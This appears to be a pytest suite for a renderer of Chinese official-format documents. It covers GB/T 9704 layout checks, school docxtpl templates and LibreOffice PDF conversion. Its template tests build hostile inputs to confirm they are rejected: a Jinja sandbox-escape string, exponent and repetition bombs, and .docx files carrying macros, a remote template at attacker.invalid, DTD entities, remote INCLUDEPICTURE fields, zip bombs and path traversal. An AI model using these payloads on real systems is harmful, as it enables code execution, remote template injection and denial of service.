"""公文 .docx rendering (GB/T 9704-2012), school templates, and PDF conversion."""

from __future__ import annotations

import io
import itertools
import re
import shutil
import statistics
import subprocess
import zipfile
from datetime import date
from decimal import Decimal

import pytest
from docx import Document
from docx.enum.text import WD_ALIGN_PARAGRAPH, WD_LINE_SPACING
from docx.oxml.ns import qn
from docx.shared import Length, Mm, Pt

from xiaowu.reports import pdf
from xiaowu.reports.document import (
    Figure,
    FigureRef,
    HeadingLevel,
    Paragraph,
    Section,
    SummaryDocument,
)
from xiaowu.reports.docx_render import (
    MAX_TEMPLATE_MEMBERS,
    chinese_numeral,
    format_issued_on,
    render_docx,
    render_with_template,
    template_context,
    validate_template,
)

FILLER = (
    "学区坚持以立德树人为根本任务，围绕办好人民满意的教育目标，统筹推进课堂教学改革、"
    "教师队伍建设和学校内涵发展，各项工作取得了新的进展。"
)


def para(*runs: str | FigureRef) -> Paragraph:
    return Paragraph(runs=list(runs))


def build_summary() -> SummaryDocument:
    """A synthetic district's 学年工作总结 with every heading level, figures and 落款.

    Like the generator, section and subsection titles carry their ordinals; the 1. items do
    not and are numbered by the renderer.
    """
    figures = {
        "schools": Figure("schools", "学校数", 12, "所"),
        "classes": Figure("classes", "教学班", 187, "个"),
        "students": Figure("students", "在校学生", 8436, "人"),
        "female": Figure("female", "女生", 4051, "人"),
        "staff": Figure("staff", "在职教职工", 612, "人"),
        "retention": Figure("retention", "义务教育巩固率", Decimal("99.6"), "%"),
    }
    return SummaryDocument(
        title="青石学区2025—2026学年工作总结",
        lead=[
            para(
                "2025—2026学年，青石学区在县教育局的正确领导下，",
                FILLER,
                "现将一学年来的工作总结如下。",
            )
        ],
        sections=[
            Section(
                "一、基本情况",
                HeadingLevel.SECTION,
                [
                    para(
                        "全学区共有中小学校",
                        FigureRef("schools"),
                        "，教学班",
                        FigureRef("classes"),
                        "，在校学生",
                        FigureRef("students"),
                        "，其中女生",
                        FigureRef("female"),
                        "；在职教职工",
                        FigureRef("staff"),
                        "。义务教育巩固率达到",
                        FigureRef("retention"),
                        "，较上学年提高0.3个百分点。",
                    )
                ],
            ),
            Section(
                "二、主要工作及成效",
                HeadingLevel.SECTION,
                children=[
                    Section(
                        "（一）聚焦课堂主阵地，教学质量稳步提升",
                        HeadingLevel.SUBSECTION,
                        [para(FILLER)],
                        [
                            Section("深化课堂教学改革。", HeadingLevel.ITEM, [para(FILLER * 2)]),
                            Section("加强教学常规管理。", HeadingLevel.ITEM, [para(FILLER)]),
                        ],
                    ),
                    Section(
                        "（二）加强队伍建设，教师素质持续提高",
                        HeadingLevel.SUBSECTION,
                        [para(FILLER * 3)],
                        [
                            Section("开展分层分类培训。", HeadingLevel.ITEM, [para(FILLER)]),
                            Section("完善评价激励机制。", HeadingLevel.ITEM, [para(FILLER * 2)]),
                        ],
                    ),
                ],
            ),
            Section("三、特色亮点", HeadingLevel.SECTION, [para(FILLER * 2)]),
            Section("四、存在问题", HeadingLevel.SECTION, [para(FILLER), para(" "), para(FILLER)]),
            Section("五、下一步打算", HeadingLevel.SECTION, [para(FILLER * 3), para(FILLER * 2)]),
        ],
        closing=[
            para("新的学年，学区将继续凝心聚力、真抓实干，努力推动全学区教育事业高质量发展。")
        ],
        signatory="青石学区",
        issued_on=date(2026, 1, 20),
        figures=figures,
    )


@pytest.fixture(scope="module")
def rendered() -> bytes:
    return render_docx(build_summary())


@pytest.fixture
def docx(rendered):
    return Document(io.BytesIO(rendered))


# ----------------------------------------------------------------- helpers: effective formatting


def style_chain(style):
    while style is not None:
        yield style
        style = style.base_style


def effective(paragraph, getter):
    """A paragraph-format value from the paragraph or the first style in its chain that has it."""
    for source in (paragraph, *style_chain(paragraph.style)):
        value = getter(source.paragraph_format)
        if value is not None:
            return value
    return None


def run_property(paragraph, tag, attr):
    """An rPr attribute (e.g. rFonts/eastAsia) from the run or the paragraph's style chain."""
    elements = [paragraph.runs[0]._r, *(s.element for s in style_chain(paragraph.style))]
    for element in elements:
        rpr = element.find(qn("w:rPr"))
        child = None if rpr is None else rpr.find(qn(tag))
        if child is not None and child.get(qn(attr)) is not None:
            return child.get(qn(attr))
    return None


def font_size_pt(paragraph) -> float:
    half_points = run_property(paragraph, "w:sz", "w:val")
    return int(half_points) / 2


def east_asia_font(paragraph):
    return run_property(paragraph, "w:rFonts", "w:eastAsia")


def by_style(docx, style_id):
    return [p for p in docx.paragraphs if p.style.style_id == style_id]


# ----------------------------------------------------------------- page and text formatting


def test_page_is_a4_with_gongwen_margins(docx):
    section = docx.sections[0]
    assert section.page_width == pytest.approx(Mm(210), abs=Mm(0.05))
    assert section.page_height == pytest.approx(Mm(297), abs=Mm(0.05))
    for actual, mm in (
        (section.top_margin, 37),
        (section.bottom_margin, 35),
        (section.left_margin, 28),
        (section.right_margin, 26),
    ):
        assert actual.mm == pytest.approx(mm, abs=0.05)
    # 版心 156 mm × 225 mm
    text_width = section.page_width - section.left_margin - section.right_margin
    assert Length(text_width).mm == pytest.approx(156, abs=0.1)


def test_title_is_2hao_xiaobiaosong_centred(docx):
    (title,) = by_style(docx, "GongwenTitle")
    assert title.text == "青石学区2025—2026学年工作总结"
    assert docx.paragraphs[0].text == title.text
    assert font_size_pt(title) == 22
    assert east_asia_font(title) == "方正小标宋简体"
    assert run_property(title, "w:rFonts", "w:ascii") == "方正小标宋简体"
    assert run_property(title, "w:rFonts", "w:hAnsi") == "方正小标宋简体"
    assert effective(title, lambda f: f.alignment) == WD_ALIGN_PARAGRAPH.CENTER
    assert effective(title, lambda f: f.first_line_indent) == 0
    # 标题下空一行, as spacing rather than an empty paragraph
    assert title.paragraph_format.space_after == Pt(28.95)


def test_body_is_3hao_fangsong_with_two_character_indent(docx):
    body = [p for p in docx.paragraphs if p.style.style_id == "Normal"]
    assert len(body) >= 10
    for paragraph in body:
        assert font_size_pt(paragraph) == 16
        assert east_asia_font(paragraph) == "仿宋_GB2312"
        assert run_property(paragraph, "w:rFonts", "w:ascii") == "仿宋_GB2312"
        indent = effective(paragraph, lambda f: f.first_line_indent)
        assert indent.pt == pytest.approx(31.6, abs=0.1)  # 2 × 15.79 pt (156 mm / 28)
        assert effective(paragraph, lambda f: f.alignment) == WD_ALIGN_PARAGRAPH.JUSTIFY
        assert effective(paragraph, lambda f: f.line_spacing_rule) == WD_LINE_SPACING.EXACTLY
        assert effective(paragraph, lambda f: f.line_spacing).pt == pytest.approx(28.95)
        assert run_property(paragraph, "w:spacing", "w:val") == "-5"  # −0.25 pt: 28 chars/line
    assert any("在校学生8436人，其中女生4051人" in p.text for p in body)
    assert any("义务教育巩固率达到99.6%" in p.text for p in body)


def test_headings_are_literal_ordinals_in_body_flow(docx):
    texts = {
        level: [p.text for p in by_style(docx, f"GongwenHeading{level}")] for level in (1, 2, 3)
    }
    assert texts[1] == [
        "一、基本情况",
        "二、主要工作及成效",
        "三、特色亮点",
        "四、存在问题",
        "五、下一步打算",
    ]
    assert texts[2] == [
        "（一）聚焦课堂主阵地，教学质量稳步提升",
        "（二）加强队伍建设，教师素质持续提高",
    ]
    assert texts[3] == [
        "1.深化课堂教学改革。",
        "2.加强教学常规管理。",
        "1.开展分层分类培训。",
        "2.完善评价激励机制。",
    ]
    expected = {1: ("黑体", None), 2: ("楷体_GB2312", None), 3: ("仿宋_GB2312", "1")}
    for level, (font, bold) in expected.items():
        for paragraph in by_style(docx, f"GongwenHeading{level}"):
            assert font_size_pt(paragraph) == 16
            assert east_asia_font(paragraph) == font
            assert (run_property(paragraph, "w:b", "w:val") == "1") == (bold == "1")
            assert effective(paragraph, lambda f: f.first_line_indent).pt == pytest.approx(
                31.6, abs=0.1
            )
            assert effective(paragraph, lambda f: f.keep_with_next) is True
    # No Word list numbering and no built-in heading styles.
    assert not docx.element.body.findall(".//" + qn("w:numPr"))
    assert not [p for p in docx.paragraphs if p.style.name.startswith("Heading")]


def test_no_empty_paragraphs_or_gaps_in_the_body(docx):
    paragraphs = docx.paragraphs
    assert all(p.text.strip() for p in paragraphs)
    for paragraph in paragraphs:
        if paragraph.style.style_id in {
            "Normal",
            "GongwenHeading1",
            "GongwenHeading2",
            "GongwenHeading3",
        }:
            assert paragraph.paragraph_format.space_before in (None, 0)
            assert paragraph.paragraph_format.space_after in (None, 0)


def test_signatory_and_date_follow_the_closing(docx):
    *_, closing, signatory, issued_on = docx.paragraphs
    assert closing.text.startswith("新的学年")
    assert signatory.text == "青石学区"
    assert issued_on.text == "2026年1月20日"
    char = 156 / 28 / 25.4 * 72  # one 字 on the grid, in pt
    for paragraph in (signatory, issued_on):
        assert effective(paragraph, lambda f: f.alignment) == WD_ALIGN_PARAGRAPH.RIGHT
        assert effective(paragraph, lambda f: f.first_line_indent) == 0
        assert font_size_pt(paragraph) == 16
    # 成文日期右空四字; 署名 centred over the date (6.5 字 wide: digits are half-width)
    assert issued_on.paragraph_format.right_indent.pt == pytest.approx(4 * char, abs=0.2)
    assert signatory.paragraph_format.right_indent.pt == pytest.approx(5.25 * char, abs=0.2)
    assert signatory.paragraph_format.space_before.pt == pytest.approx(2 * 28.95)


def test_footer_has_page_field_with_em_dashes_odd_right_even_left(docx):
    assert docx.settings.odd_and_even_pages_header_footer is True
    section = docx.sections[0]
    sect_pr = section._sectPr
    assert not sect_pr.findall(qn("w:headerReference"))
    footer_types = {ref.get(qn("w:type")) for ref in sect_pr.findall(qn("w:footerReference"))}
    assert footer_types == {"default", "even"}
    for footer, alignment, odd in (
        (section.footer, WD_ALIGN_PARAGRAPH.RIGHT, True),
        (section.even_page_footer, WD_ALIGN_PARAGRAPH.LEFT, False),
    ):
        (paragraph,) = footer.paragraphs
        xml = paragraph._p.xml
        assert 'w:fldCharType="begin"' in xml
        assert re.search(r"<w:instrText[^>]*> PAGE </w:instrText>", xml)
        assert paragraph.text == "— 1 —"
        assert paragraph.alignment == alignment
        indent = (
            paragraph.paragraph_format.right_indent
            if odd
            else paragraph.paragraph_format.left_indent
        )
        assert indent.pt == pytest.approx(14)  # 空一字 (4号)
        assert font_size_pt(paragraph) == 14
        assert run_property(paragraph, "w:rFonts", "w:ascii") == "宋体"


def test_font_table_declares_gongwen_fonts_with_alternates(rendered):
    with zipfile.ZipFile(io.BytesIO(rendered)) as archive:
        fonts = archive.read("word/fontTable.xml").decode()
        names = archive.namelist()
    for name, alt in (
        ("方正小标宋简体", "宋体"),
        ("仿宋_GB2312", "仿宋"),
        ("楷体_GB2312", "楷体"),
        ("黑体", "SimHei"),
    ):
        assert re.search(
            rf'<w:font w:name="{name}"><w:altName w:val="{alt}"/><w:charset w:val="86"/>', fonts
        )
    assert "docProps/thumbnail.jpeg" not in names


def test_existing_ordinals_are_kept_and_subtitle_gets_a_dash():
    doc = SummaryDocument(
        title="关于2025年秋季学期工作的总结",
        subtitle="在学区工作会议上的报告",
        sections=[
            Section("一、基本情况", paragraphs=[para("正文。")]),
            Section("工作成效", children=[Section("（一）教学", HeadingLevel.SUBSECTION)]),
        ],
    )
    docx = Document(io.BytesIO(render_docx(doc)))
    assert [p.text for p in docx.paragraphs] == [
        "关于2025年秋季学期工作的总结",
        "——在学区工作会议上的报告",
        "一、基本情况",
        "正文。",
        "二、工作成效",
        "（一）教学",
    ]
    subtitle = docx.paragraphs[1]
    assert east_asia_font(subtitle) == "楷体_GB2312"
    assert font_size_pt(subtitle) == 16
    assert effective(subtitle, lambda f: f.alignment) == WD_ALIGN_PARAGRAPH.CENTER
    assert subtitle.paragraph_format.space_after == Pt(28.95)
    assert docx.paragraphs[0].paragraph_format.space_after is None


def test_missing_figure_and_control_characters():
    doc = SummaryDocument(title="标题", lead=[para("共有", FigureRef("nope"))])
    with pytest.raises(ValueError, match="nope"):
        render_docx(doc)
    clean = SummaryDocument(title="标\x00题\x07", lead=[para("正文\x0c")])
    assert [p.text for p in Document(io.BytesIO(render_docx(clean))).paragraphs] == ["标题", "正文"]


@pytest.mark.parametrize(
    ("n", "text"), [(1, "一"), (9, "九"), (10, "十"), (11, "十一"), (20, "二十"), (35, "三十五")]
)
def test_chinese_numerals(n, text):
    assert chinese_numeral(n) == text


def test_issued_on_uses_arabic_numerals_without_padding():
    assert format_issued_on(date(2025, 1, 20)) == "2025年1月20日"
    assert format_issued_on(date(2025, 10, 5)) == "2025年10月5日"
    assert format_issued_on(None) == ""


# ----------------------------------------------------------------- school templates (docxtpl)


def make_template(*lines: str) -> bytes:
    document = Document()
    for line in lines:
        document.add_paragraph(line)
    buffer = io.BytesIO()
    document.save(buffer)
    return buffer.getvalue()


def test_template_context_shape():
    context = template_context(build_summary())
    assert context["title"] == "青石学区2025—2026学年工作总结"
    assert context["issued_on"] == "2026年1月20日"
    assert context["signatory"] == "青石学区"
    assert context["lead"][0].startswith("2025—2026学年")
    first, second = context["sections"][:2]
    assert first["heading"] == "一、基本情况"
    assert first["level"] == "section"
    assert "在校学生8436人" in first["paragraphs"][0]
    assert second["children"][0]["heading"] == "（一）聚焦课堂主阵地，教学质量稳步提升"
    assert second["children"][0]["children"][1]["heading"] == "2.加强教学常规管理。"
    assert second["children"][0]["children"][1]["number"] == "2."
    assert context["figures"]["retention"] == "99.6%"
    kinds = [item["kind"] for item in context["body"][:5]]
    assert kinds == ["paragraph", "section", "paragraph", "section", "subsection"]
    assert all(p for s in context["sections"] for p in s["paragraphs"])  # blank paragraphs dropped


def test_render_with_school_template():
    template = make_template(
        "{{ title }}",
        "{%p for s in sections %}",
        "{{ s.heading }}",
        "{%p for p in s.paragraphs %}",
        "{{ p }}",
        "{%p endfor %}",
        "{%p for c in s.children %}",
        "{{ c.heading }}",
        "{%p endfor %}",
        "{%p endfor %}",
        "{{ signatory }}",
        "{{ issued_on }}",
        "在校学生：{{ figures['students'] }}",
    )
    doc = build_summary()
    doc.title = "青石学区 <工作总结> & 附件"  # must be escaped, not break the XML
    result = Document(io.BytesIO(render_with_template(doc, template)))
    texts = [p.text for p in result.paragraphs]
    assert texts[0] == "青石学区 <工作总结> & 附件"
    assert texts[1] == "一、基本情况"
    assert "在校学生8436人" in texts[2]
    assert "（二）加强队伍建设，教师素质持续提高" in texts
    assert texts[-3:] == ["青石学区", "2026年1月20日", "在校学生：8436人"]
    assert not any("{%" in t or "{{" in t for t in texts)


@pytest.mark.parametrize(
    ("line", "message"),
    [
        ("{{ no_such_name }}", "未定义的占位符：no_such_name"),
        ("{{ sections[0].nope }}", "未定义的占位符：nope"),
        ("{% for x in %}", "模板语法错误"),
        ("{%p if title %}", "模板语法错误"),
        ("{{ ''.__class__.__mro__[1].__subclasses__() }}", "不允许的操作"),
        ("{{ 'x' * 100000000 }}", "不允许的操作"),
        ("{{ 2 ** 100000000 }}", "不允许的操作"),
        ("{{ (10 ** 60) ** 60 }}", "不允许的操作"),
    ],
)
def test_template_errors_become_chinese_value_errors(line, message):
    with pytest.raises(ValueError, match=message):
        render_with_template(build_summary(), make_template(line))


def rebuild(template: bytes, *, drop=(), add=(), replace=None) -> bytes:
    """Copy a .docx, dropping, adding or rewriting members."""
    replace = replace or {}
    source = zipfile.ZipFile(io.BytesIO(template))
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as target:
        for info in source.infolist():
            if info.filename in drop:
                continue
            data = source.read(info)
            if info.filename in replace:
                data = replace[info.filename](data)
            target.writestr(info.filename, data)
        for name, data in add:
            target.writestr(name, data)
    return buffer.getvalue()


def _macro_content_type(data: bytes) -> bytes:
    return data.replace(
        b"wordprocessingml.document.main+xml", b"ms-word.document.macroEnabled.main+xml"
    )


def _external_template(data: bytes) -> bytes:
    return data.replace(
        b"</Relationships>",
        b'<Relationship Id="rId99" Type="http://schemas.openxmlformats.org/officeDocument/'
        b'2006/relationships/attachedTemplate" Target="http://attacker.invalid/t.dotm" '
        b'TargetMode="External"/></Relationships>',
    )


def _doctype(data: bytes) -> bytes:
    return data.replace(
        b"?>", b'?><!DOCTYPE w:document [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;">]>', 1
    )


def _include_picture(data: bytes) -> bytes:
    return data.replace(
        b"</w:body>",
        b'<w:p><w:r><w:instrText xml:space="preserve"> INCLUDEPICTURE "http://x.invalid/a.png" '
        b"</w:instrText></w:r></w:p></w:body>",
    )


def _zip_bomb(template: bytes) -> bytes:
    return rebuild(template, add=[("word/media/huge.xml", b"\0" * (60 * 1024 * 1024))])


def _many_members(template: bytes) -> bytes:
    return rebuild(
        template, add=[(f"word/media/{i}.png", b"x") for i in range(MAX_TEMPLATE_MEMBERS)]
    )


def _traversal(template: bytes) -> bytes:
    return rebuild(template, add=[("../../evil.xml", b"<a/>")])


def _encrypted(template: bytes) -> bytes:
    """Set the 'encrypted' flag of word/document.xml in the central directory."""
    data = bytearray(template)
    start = 0
    while (start := data.find(b"PK\x01\x02", start)) != -1:
        name_length = int.from_bytes(data[start + 28 : start + 30], "little")
        if data[start + 46 : start + 46 + name_length] == b"word/document.xml":
            data[start + 8] |= 0x1
        start += 4
    return bytes(data)


@pytest.mark.parametrize(
    ("attack", "message"),
    [
        (lambda t: b"PK\x03\x04 not really a zip", "不是有效的 .docx"),
        (lambda t: b"{{ title }}", "不是有效的 .docx"),
        (lambda t: rebuild(t, add=[("word/vbaProject.bin", b"\xd0\xcf\x11\xe0")]), "宏"),
        (lambda t: rebuild(t, replace={"[Content_Types].xml": _macro_content_type}), "宏"),
        (lambda t: rebuild(t, add=[("word/embeddings/oleObject1.bin", b"x")]), "嵌入对象"),
        (
            lambda t: rebuild(t, replace={"word/_rels/document.xml.rels": _external_template}),
            "外部",
        ),
        (lambda t: rebuild(t, replace={"word/document.xml": _doctype}), "DTD"),
        (lambda t: rebuild(t, replace={"word/document.xml": _include_picture}), "域代码"),
        (lambda t: rebuild(t, drop=["[Content_Types].xml"]), "不是有效的 .docx"),
        (_zip_bomb, "解压后过大"),
        (_many_members, "部件过多"),
        (_traversal, "非法的部件路径"),
        (_encrypted, "加密"),
        (lambda t: t + b"\0" * (11 * 1024 * 1024), "过大"),
    ],
)
def test_malicious_templates_are_rejected(attack, message):
    template = make_template("{{ title }}")
    validate_template(template)  # the clean one passes
    with pytest.raises(ValueError, match=message):
        render_with_template(build_summary(), attack(template))


# ----------------------------------------------------------------- PDF (LibreOffice)

needs_libreoffice = pytest.mark.skipif(
    not pdf.libreoffice_available(), reason="LibreOffice (soffice) is not installed"
)
needs_pdftotext = pytest.mark.skipif(
    shutil.which("pdftotext") is None, reason="pdftotext (poppler-utils) is not installed"
)


def pdf_page_count(data: bytes) -> int:
    return len(re.findall(rb"/Type\s*/Page(?![a-zA-Z])", data))


def pdf_lines(data: bytes) -> list[list[tuple[float, float, float, str]]]:
    """Per page: (yMin, xMin, xMax, text) of each text line, via pdftotext -bbox-layout."""
    completed = subprocess.run(  # noqa: S603
        [shutil.which("pdftotext") or "pdftotext", "-bbox-layout", "-", "-"],
        input=data,
        capture_output=True,
        check=True,
    )
    html = completed.stdout.decode()
    pages = []
    for page in html.split("<page ")[1:]:
        lines = []
        for match in re.finditer(
            r'<line xMin="([\d.]+)" yMin="([\d.]+)" xMax="([\d.]+)" yMax="[\d.]+">(.*?)</line>',
            page,
            re.S,
        ):
            text = "".join(re.findall(r">([^<]*)</word>", match.group(4)))
            lines.append(
                (float(match.group(2)), float(match.group(1)), float(match.group(3)), text)
            )
        pages.append(lines)
    return pages


def test_docx_to_pdf_returns_none_without_libreoffice(monkeypatch):
    monkeypatch.setattr(pdf.shutil, "which", lambda name: None)
    assert pdf.libreoffice_available() is False
    assert pdf.docx_to_pdf(b"anything") is None


def test_fontconfig_substitutions_prefer_real_faces_then_noto():
    config = pdf.fontconfig_substitutions()
    assert "<family>仿宋_GB2312</family><accept><family>仿宋</family>" in config
    assert "<family>黑体</family><accept><family>SimHei</family>" in config
    assert "Noto Sans CJK SC" in config
    assert "Noto Serif CJK SC" in config


@needs_libreoffice
def test_docx_to_pdf_timeout_raises():
    with pytest.raises(pdf.PdfConversionError, match="超时"):
        pdf.docx_to_pdf(render_docx(build_summary()), timeout=0)


@needs_libreoffice
def test_summary_converts_to_pdf(rendered):
    data = pdf.docx_to_pdf(rendered)
    assert data is not None
    assert data.startswith(b"%PDF")
    assert pdf_page_count(data) == 4


@needs_libreoffice
@needs_pdftotext
def test_pdf_grid_is_22_lines_of_28_characters():
    text = "学区坚持以立德树人为根本任务围绕办好人民满意的教育目标统筹推进课堂教学改革" * 40
    data = pdf.docx_to_pdf(render_docx(SummaryDocument(title="", lead=[para(text)])))
    assert data is not None
    pages = pdf_lines(data)
    assert len(pages) >= 3
    points_per_mm = 72 / 25.4
    block_top, block_bottom = 37 * points_per_mm, (297 - 35) * points_per_mm
    for number, page in enumerate(pages[:-1], start=1):  # every full page
        body = [line for line in page if line[0] < block_bottom]
        footer = [line for line in page if line[0] >= block_bottom]
        assert abs(len(body) - 22) <= 1, [line[3] for line in body]
        assert body[0][0] >= block_top - 1
        # all but the first (indented) line of the paragraph hold 28 characters
        assert statistics.median(len(line[3]) for line in body[1:]) == pytest.approx(28, abs=1)
        pitches = [b[0] - a[0] for a, b in itertools.pairwise(body)]
        assert statistics.mean(pitches) == pytest.approx(28.95, abs=0.1)
        # text block starts at 28 mm and ends at 210 − 26 mm
        assert body[1][1] / points_per_mm == pytest.approx(28, abs=0.5)
        assert body[1][2] / points_per_mm == pytest.approx(184, abs=0.5)
        (page_number,) = footer
        assert page_number[3].replace(" ", "") == f"—{number}—"
        centre = (page_number[1] + page_number[2]) / 2 / points_per_mm
        assert (centre > 105) == (number % 2 == 1)  # odd pages right, even pages left
